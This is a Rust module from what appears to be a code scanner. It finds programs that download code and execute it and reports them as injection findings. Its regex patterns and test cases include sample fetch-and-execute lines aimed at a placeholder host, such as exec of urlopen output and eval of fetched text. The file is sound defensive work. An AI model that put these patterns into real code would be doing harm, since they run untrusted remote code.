//! Programs that fetch a program and run it.
//!
//! A light reading, line by line and from top to bottom, as [`super::source`] reads for secrets: which
//! variable or file holds what came from elsewhere, and whether that ends up in a call that runs what it
//! is given. Fetching alone is ordinary work, and so is running what the program itself says.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use call::{Family, Span};
use regex::bytes::Regex;

use super::source::{self, arguments_end};
use super::{Act, compiled, fed, injection};

/// A call, from its name to the end of its arguments.
#[derive(Clone, Copy)]
pub(super) struct Call {
    pub(super) start: usize,
    pub(super) arguments: usize,
    pub(super) end: usize,
    // Runs programs, and not text of its own language.
    starts_process: bool,
}

/// How far a row of calls reaches: `fetch(…).then(…).then(…)`.
const LONGEST_ROW: usize = 2_000;

/// All such programs in `text`.
pub(super) fn find(text: &str, offset: usize, found: &mut Vec<Act>) {
    for import in imports_of_addresses(text).into_iter().chain(fetched_and_run_at_once(text)) {
        let span = Span::new(offset + import.start, offset + import.end);
        found.push(Act { family: Family::Injection, kind: "download_to_shell", span, mention: false });
    }
    let fetches = fetches(text);
    if fetches.is_empty() {
        return;
    }
    let runs = runs(text);
    let mut report = |run: &Call, kind: &'static str| {
        let span = Span::new(offset + run.start, offset + run.end);
        found.push(Act { family: Family::Injection, kind, span, mention: false });
    };
    let mut held: BTreeSet<String> = BTreeSet::new();
    let mut files: BTreeSet<String> = BTreeSet::new();
    let (mut runs_left, mut fetches_left) = (runs.as_slice(), fetches.as_slice());
    let mut start = 0;
    for line in text.split_inclusive('\n') {
        let end = start + line.len();
        let (fetches_here, rest) = until(fetches_left, end);
        fetches_left = rest;
        let (runs_here, rest) = until(runs_left, end);
        runs_left = rest;
        keep(line, !fetches_here.is_empty(), &mut held, &mut files);
        if source::is_comment(line) {
            start = end;
            continue;
        }
        for run in runs_here {
            let arguments = text.get(run.arguments..run.end).unwrap_or_default();
            let direct = fetches.iter().skip(fetches.partition_point(|fetch| fetch.start < run.arguments));
            let mut direct = direct.take_while(|fetch| fetch.start < run.end);
            let direct = if run.starts_process {
                direct.take(4).any(|fetch| begins_with(text, run, fetch))
            } else {
                direct.next().is_some()
            };
            if runs_what_was_fetched(arguments, run, direct, &held) {
                report(run, "download_to_shell");
            } else if names_file(arguments, &files) {
                report(run, "download_then_run");
            }
        }
        if imports(line, &files) {
            let run = Call { start, arguments: start, end, starts_process: false };
            report(&run, "download_then_run");
        }
        start = end;
    }
    for shell in fed::find(text, &fetches) {
        let run = Call { start: shell.start, arguments: shell.start, end: shell.end, starts_process: true };
        report(&run, "download_to_shell");
    }
    for fetch in &fetches {
        let end = row_end(text, fetch.end);
        let first = runs.partition_point(|run| run.start < fetch.start);
        let inside = runs.get(first..).unwrap_or_default().iter().take_while(|run| run.start < end);
        if let Some(run) = inside.take(16).find(|run| run.start > fetch.arguments && !run.starts_process) {
            report(run, "download_to_shell");
        }
    }
}

fn until(calls: &[Call], end: usize) -> (&[Call], &[Call]) {
    let here = calls.partition_point(|call| call.start < end);
    calls.split_at_checked(here).unwrap_or((calls, &[]))
}

pub(super) fn calls(text: &str, cell: &'static OnceLock<Option<Regex>>, pattern: &str) -> Vec<Call> {
    let Some(expression) = compiled(cell, pattern) else { return Vec::new() };
    let call = |captures: regex::bytes::Captures<'_>| {
        let all = captures.get(0)?;
        // The brackets begin with the last sign of what was found.
        let arguments = if all.as_bytes().ends_with(b"(") { all.end() - 1 } else { all.end() };
        let end = arguments_end(text, arguments);
        Some(Call { start: all.start(), arguments, end, starts_process: captures.name("process").is_some() })
    };
    expression.captures_iter(text.as_bytes()).filter_map(call).collect()
}

fn runs(text: &str) -> Vec<Call> {
    static RUNS: OnceLock<Option<Regex>> = OnceLock::new();
    calls(
        text,
        &RUNS,
        r"(?:^|[^.\w])(?:exec|eval|execfile|Function|instance_eval|class_eval|assert)\s*\(|\b(?:builtins|__builtins__|window|globalThis|global|vm|runpy|Kernel|kernel)\.(?:exec|eval|runIn\w*|run_path|Script)\s*\(|\.(?:instance_eval|class_eval)\b|\.runIn(?:This|New)?Context\s*\(|\bmarshal\.loads\s*\(|(?:^|[^.\w])(?:eval|instance_eval|class_eval|module_eval)\s|(?P<process>\bos\.(?:system|popen|exec\w*|spawn\w*)\s*\(|\bsubprocess\.\w+\s*\(|\bos\.execute\s*\(|\b(?:execSync|execFile\w*|spawn\w*|execa|shell_exec|passthru|system|popen|Popen)\s*\(|\bchild_process'?\)?\.exec\s*\(|\bexec\.Command\s*\()",
    )
}

/// The output of a download is a line, in languages that start programs by signs: ``system(`curl …`)``.
fn fetched_and_run_at_once(text: &str) -> Vec<Call> {
    static AT_ONCE: OnceLock<Option<Regex>> = OnceLock::new();
    calls(
        text,
        &AT_ONCE,
        r#"\b(?:system|passthru|eval|instance_eval)\s*\(?\s*`\s*(?:curl|wget)\b|\b(?:load|loadstring)\s*\(\s*(?:assert\s*\(\s*)?io\.popen\s*\(\s*["'](?:curl|wget)\b|\bpipeline\s*\(\s*`\s*(?:curl|wget)\b[^`\n]{0,300}`\s*,\s*`\s*(?:/\w+){0,3}/?(?:ba|z|da|k)?sh\b|\bpipeline\s*\(\s*(?:Downloads\.)?download\s*\([^`\n]{0,300},\s*`\s*(?:/\w+){0,3}/?(?:ba|z|da|k)?sh\b"#,
    )
}

/// Is the first thing in the arguments of `run` what `fetch` brings, and not a text that it is put into?
fn begins_with(text: &str, run: &Call, fetch: &Call) -> bool {
    let front = text.get(run.arguments..fetch.start).unwrap_or_default().trim_start_matches('(');
    // `require('child_process').execSync(…`
    let front = match front.split_once(')') {
        Some((module, rest)) if module.starts_with("require(") => rest,
        _ => front,
    };
    front.len() <= 80 && !front.contains(['"', '\'', '`', ',', '+', '='])
}

/// `import("https://…")`: fetched and run in one.
fn imports_of_addresses(text: &str) -> Vec<Call> {
    static IMPORTS: OnceLock<Option<Regex>> = OnceLock::new();
    calls(text, &IMPORTS, r#"\bimport(?:Scripts)?\s*\(\s*["'`]https?://"#)
}

fn fetches(text: &str) -> Vec<Call> {
    static FETCHES: OnceLock<Option<Regex>> = OnceLock::new();
    calls(
        text,
        &FETCHES,
        r#"(?i)\burlopen\s*\(|\burlretrieve\s*\(|\brequests\.(?:get|post|request)\s*\(|\bhttpx\.(?:get|post|stream)\s*\(|(?:^|[^.\w])fetch\s*\(|\baxios(?:\.\w+)?\s*\(|\bgot(?:\.\w+)?\s*\(|\bhttps?['"]?\)?\.get\s*\(|\bNet::HTTP\.get\w*\s*\(|\bURI(?:\.parse)?(?:\([^)\n]{0,200}\))?\.(?:open|read)\b|\bHTTParty\.get\s*\(|\bfile_get_contents\s*\(\s*['"](?:https?|ftp):|\bcurl_exec\s*\(|\bhttp\.Get\s*\(|\bLWP::\w+|\b\w+\.get\s*\(\s*[fbru]?['"`]https?:|\b(?:check_output|popen|Popen|getoutput|execSync|execFileSync|spawn|spawnSync|shell_exec|exec\.Command|subprocess\.run)\s*\(\s*\[?\s*['"`](?:curl|wget)\b|\bsocket\.\w*recv\b|\.recv\s*\("#,
    )
}

/// Remembers what this line puts into a variable or a file.
fn keep(line: &str, fetches: bool, held: &mut BTreeSet<String>, files: &mut BTreeSet<String>) {
    static BOUND: OnceLock<Option<Regex>> = OnceLock::new();
    static DESTRUCTURED: OnceLock<Option<Regex>> = OnceLock::new();
    let carries = fetches || source::mentions(line, held).is_some();
    if !carries {
        return;
    }
    if let Some((name, _)) = source::assignment(line) {
        held.insert(name.to_owned());
    }
    let names = |cell: &'static OnceLock<Option<Regex>>, pattern: &str| -> Vec<String> {
        let found = compiled(cell, pattern).and_then(|bound| bound.captures(line.as_bytes()));
        let names = found
            .and_then(|found| found.get(1))
            .map(|names| String::from_utf8_lossy(names.as_bytes()).into_owned());
        names
            .iter()
            .flat_map(|names| names.split(','))
            .map(|name| name.rsplit(':').next().unwrap_or(name).trim().to_owned())
            .collect()
    };
    held.extend(names(&BOUND, r"\bas\s+(\w{1,60})\s*:"));
    held.extend(names(&DESTRUCTURED, r"\b(?:const|let|var)\s*\{([^}\n]{1,120})\}\s*="));
    files.extend(written_files(line));
}

/// The files that a line writes to, by the last part of their names.
fn written_files(line: &str) -> Vec<String> {
    static WRITES: OnceLock<Option<Regex>> = OnceLock::new();
    let written = r#"(?i)\burlretrieve\s*\([^)\n]{0,300}?,\s*[fbru]?["']([^"'\n]{1,120})["']|\b(?:open|writeFileSync|writeFile|File\.write|file_put_contents|Path|WriteFile)\s*\(\s*[fbru]?["']([^"'\n]{1,120})["']"#;
    let written =
        compiled(&WRITES, written).into_iter().flat_map(|writes| writes.captures_iter(line.as_bytes()));
    let file = |captures: regex::bytes::Captures<'_>| {
        let path = captures.iter().skip(1).flatten().next()?;
        Some(injection::file_name(&String::from_utf8_lossy(path.as_bytes())))
    };
    written.take(8).filter_map(file).collect()
}

/// The files in which a program leaves what it fetched.
pub(super) fn files(text: &str) -> Vec<String> {
    if fetches(text).is_empty() { Vec::new() } else { written_files(text) }
}

/// Is what came from elsewhere run here?
fn runs_what_was_fetched(arguments: &str, run: &Call, direct: bool, held: &BTreeSet<String>) -> bool {
    if !run.starts_process {
        return direct || stands_open(arguments, held);
    }
    if direct {
        return true;
    }
    // Of a process only the line itself counts, or the text behind the flag for it.
    let first = arguments.trim_start_matches(['(', '[', ' ']);
    let name = first.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count();
    let by_flag = ["'-c'", "\"-c\"", "'-e'", "\"-e\""].iter().filter_map(|flag| arguments.find(flag)).min();
    first.get(..name).is_some_and(|name| held.contains(name))
        || by_flag
            .and_then(|flag| arguments.get(flag..))
            .is_some_and(|rest| source::mentions(rest, held).is_some())
}

/// Does one of `names` stand in `arguments` as a variable, and not in a string?
fn stands_open(arguments: &str, names: &BTreeSet<String>) -> bool {
    let mut quote: Option<u8> = None;
    let mut read = 0;
    source::words(arguments).any(|(place, word)| {
        for &byte in arguments.as_bytes().get(read..place).unwrap_or_default() {
            match (quote, byte) {
                (None, b'"' | b'\'' | b'`') => quote = Some(byte),
                (Some(open), _) if open == byte => quote = None,
                _ => {}
            }
        }
        read = place;
        let put_in = arguments.get(..place).is_some_and(|before| before.ends_with(['{', '$']));
        (quote.is_none() || put_in) && names.contains(word)
    })
}

/// Does a string in `arguments` name one of the files?
fn names_file(arguments: &str, files: &BTreeSet<String>) -> bool {
    let parts = arguments.split(['"', '\'', '`', ' ', '=']).take(64);
    !files.is_empty() && parts.map(injection::file_name).any(|part| files.contains(&part))
}

/// `import helper`, of a file that was fetched.
fn imports(line: &str, files: &BTreeSet<String>) -> bool {
    let line = line.trim_start();
    let named = line.strip_prefix("import ").or_else(|| line.strip_prefix("from "));
    let module = named.map(|rest| rest.split([' ', '.', ',', ';', '\n']).next().unwrap_or_default());
    module.is_some_and(|module| files.contains(&format!("{module}.py")))
}

/// Where a row of calls ends, one hanging on the other.
fn row_end(text: &str, from: usize) -> usize {
    let mut end = from;
    while end < from + LONGEST_ROW {
        let rest = text.get(end..).unwrap_or_default();
        let next = rest.trim_start_matches([' ', '\n', '\t', '\r', ')', ';']);
        let Some(name) = next.strip_prefix('.') else { break };
        let length = name.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count();
        if length == 0 {
            break;
        }
        let arguments = end + (rest.len() - next.len()) + 1 + length;
        let called = text.as_bytes().get(arguments) == Some(&b'(');
        end = if called { arguments_end(text, arguments) } else { arguments };
    }
    end
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn a_program_that_runs_what_it_fetched_is_found() {
        let cases = [
            ("code = urlopen('https://x.invalid').read()\nexec(compile(code, 'p', 'exec'))", true),
            ("const r = await fetch('https://x.invalid'); eval(await r.text())", true),
            ("fetch(u).then(r => r.text()).then(t => new Function(t)())", true),
            ("eval(Net::HTTP.get(URI('https://x.invalid')))", true),
            (
                "https.get(u, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
                true,
            ),
            ("urlretrieve(u, 'a.py')\nimport subprocess\nsubprocess.run(['python', 'a.py'])", true),
            ("urlretrieve(u, 'helper.py')\nimport helper", true),
            ("with urlopen(u) as r:\n    text = r.read()\nexec(text)", true),
            ("import requests\nsrc = requests.get(u).text\nos.system(src)", true),
            ("data = requests.get(u).json()\nprint(eval('1 + 1'))", false),
            ("data = requests.get(u).json()\nscore = model.eval(data)", false),
            ("r = requests.get(u)\nsubprocess.run(['jq', '.'], input=r.text)", false),
            ("r = requests.get(u)\nos.system(f'echo {r.status_code}')", false),
            ("const m = /a/.exec(await (await fetch(u)).text())", false),
            ("exec('x = 1')", false),
            (
                "const h = require('https'); h.get('https://x.invalid', r => { r.on('end', () => eval(d)) })",
                true,
            ),
            ("instance_eval Net::HTTP.get(URI('https://x.invalid'))", true),
            ("const v = cache.get('https://x.invalid'); console.log(v)", false),
            ("model.eval\nr = api.get('https://x.invalid')", false),
        ];
        for (text, want) in cases {
            let mut found = Vec::new();
            find(text, 0, &mut found);
            assert_eq!(!found.is_empty(), want, "{text}");
        }
    }
}
